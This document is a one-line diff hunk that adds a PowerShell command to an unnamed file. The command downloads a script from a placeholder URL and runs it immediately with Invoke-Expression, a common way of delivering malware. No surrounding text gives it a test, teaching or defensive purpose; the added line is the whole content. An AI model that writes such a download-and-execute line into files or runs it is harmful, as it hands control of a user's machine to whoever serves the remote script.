@@ -1,0 +1,1 @@
+iex (New-Object Net.WebClient).DownloadString('http://x/y')
